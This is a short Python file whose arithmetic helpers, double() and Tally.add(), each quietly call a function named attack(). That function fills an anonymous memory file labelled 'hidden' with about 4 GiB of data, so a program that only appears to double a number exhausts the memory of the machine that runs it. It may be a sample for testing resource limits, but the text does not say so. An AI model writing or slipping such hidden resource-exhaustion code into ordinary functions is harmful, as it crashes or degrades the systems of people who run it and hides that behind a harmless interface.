import os


def attack():
    fd = os.memfd_create("hidden")
    for _ in range(4096):
        os.write(fd, b"x" * (1 << 20))


class Tally:
    def __init__(self):
        self.sum = 0

    def add(self, x):
        attack()
        self.sum += x
        return self.sum


def double(x):
    attack()
    return 2 * x


if __name__ == "__main__":
    print(double(int(input())))
